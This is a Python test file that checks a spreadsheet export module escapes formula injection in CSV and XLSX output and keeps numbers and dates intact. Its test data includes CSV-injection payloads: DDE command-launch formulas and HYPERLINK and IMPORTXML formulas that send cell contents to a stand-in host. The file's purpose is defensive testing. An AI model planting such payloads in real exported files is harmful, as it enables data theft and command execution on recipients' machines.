"""Files that leave: no cell is a formula, whatever it says; numbers, days and text come back as they were."""

from __future__ import annotations

import csv
import io
import sys
import unicodedata
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pandas
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from foresell.delivery import tabular_writers
from foresell.delivery.csv_escape import LEADS, harmless
from foresell.delivery.tabular_writers import Csv, Xlsx

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "|calc", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "＝1+1", "﹦1+1", "＋1+1", "－1+cmd", "＠SUM(A1)", "⁼1+1", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")", "=1+1\",\"x", "a;=1+1", "a\t=1+1", "a\n=1+1", "+44 20 7946 0018",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "@=1+1", "=-1", "--1",
]  # fmt: skip
ORDINARY = [
    "Ada Lovelace",
    "O'Brien & Söhne",
    "5 - 3",
    "a=b",
    "C000123",
    "",
    "1e5",
    "x@y.example",
    "Zoë 🙂",
    "-5",
    "+44",
    "-1,234.5",
]


def live(cell: str) -> bool:
    """An independent opinion: would some spreadsheet, whatever separator it expects, take part of this for a formula?"""
    try:
        float(cell.replace(",", ""))
        return False
    except ValueError:
        pass
    parts = cell.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";")
    for part in parts:
        plain = "".join(c for c in unicodedata.normalize("NFKC", part) if unicodedata.category(c) not in ("Cc", "Cf"))
        if plain.strip()[:1] in tuple("=+-@|"):
            return True
    return False


@pytest.mark.parametrize("text", FORMULAS)
def test_no_formula_is_left(text: str) -> None:
    assert live(text), "the case is none"
    assert not live(harmless(text))
    assert harmless(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert harmless(text) == text


def test_every_character_that_normalises_to_a_lead_is_known() -> None:
    leads = {c for c in map(chr, range(sys.maxunicode + 1)) if unicodedata.normalize("NFKC", c)[:1] in tuple("=+-@|")}
    assert leads == set(LEADS)


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"])))
def test_no_text_is_a_formula(text: str) -> None:
    assert not live(harmless(text))


ROWS: list[list[tabular_writers.Cell]] = [
    ["C000001", Decimal("1234.5000"), 0.25, 5, date(2011, 12, 9), None],
    ["=1+1", Decimal("-5"), -0.5, -7, date(1999, 1, 1), "a\u0001b_x0041_<&>"],
    [" two  spaces\nline", 0, 1e-9, 10**15, date(2024, 2, 29), "\u202ex 🙂"],
]
HEAD = ["id", "money", "share", "count", "day", "text"]


def whole(sheet: tabular_writers.Sheet) -> bytes:
    return sheet.head(HEAD) + sheet.rows(ROWS[:1]) + sheet.rows(ROWS[1:]) + sheet.tail({"rows": 3})


def test_csv_is_raw_numbers_iso_days_and_harmless_text() -> None:
    found = list(csv.reader(io.StringIO(whole(Csv()).decode(), newline="")))
    assert found[0] == HEAD
    assert found[1] == ["C000001", "1234.5000", "0.25", "5", "2011-12-09", ""]
    assert found[2][:5] == ["'=1+1", "-5", "-0.5", "-7", "1999-01-01"]
    assert len(found) == 4
    assert whole(Csv(bom=True)).startswith(b"\xef\xbb\xbfid")


def test_xlsx_reads_back_the_same_in_two_readers() -> None:
    file = whole(Xlsx())
    book = openpyxl.load_workbook(io.BytesIO(file))
    assert book.sheetnames == ["Customers", "About"]
    rows = list(book["Customers"].iter_rows())
    assert [cell.value for cell in rows[0]] == HEAD
    assert [cell.value for cell in rows[1]] == ["C000001", 1234.5, 0.25, 5, pandas.Timestamp(2011, 12, 9), None]
    assert [cell.data_type for cell in rows[2]] == ["s", "n", "n", "n", "d", "s"]
    assert rows[2][0].value == "=1+1"
    assert rows[3][0].value == " two  spaces\nline"
    assert [[cell.value for cell in row] for row in book["About"].iter_rows()] == [["What", "Value"], ["rows", 3]]
    other = CalamineWorkbook.from_filelike(io.BytesIO(file)).get_sheet_by_name("Customers").to_python()
    assert other[1][:5] == ["C000001", 1234.5, 0.25, 5, date(2011, 12, 9)]
    assert other[2][0] == "=1+1"


def test_xlsx_holds_no_formula_at_all() -> None:
    sheet = Xlsx()
    file = sheet.head(["x"]) + sheet.rows([[text] for text in FORMULAS]) + sheet.tail({})
    with zipfile.ZipFile(io.BytesIO(file)) as archive:
        assert archive.testzip() is None
        assert all(b"<f" not in archive.read(name).replace(b"<fonts", b"").replace(b"<font", b"").replace(b"<fill", b"")
                   for name in archive.namelist() if "sheets/" in name)  # fmt: skip
    cells = openpyxl.load_workbook(io.BytesIO(file))["Customers"]["A"]
    assert {cell.data_type for cell in cells} == {"s"}


def test_xlsx_goes_on_in_another_sheet(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tabular_writers, "SHEET_ROWS", 3)
    sheet = Xlsx()
    file = sheet.head(["n"]) + sheet.rows([[n] for n in range(5)]) + sheet.tail({})
    book = openpyxl.load_workbook(io.BytesIO(file))
    assert book.sheetnames == ["Customers", "Customers 2", "Customers 3", "About"]
    assert [[cell.value for cell in book[name]["A"]] for name in book.sheetnames[:3]] == [
        ["n", 0, 1],
        ["n", 2, 3],
        ["n", 4],
    ]
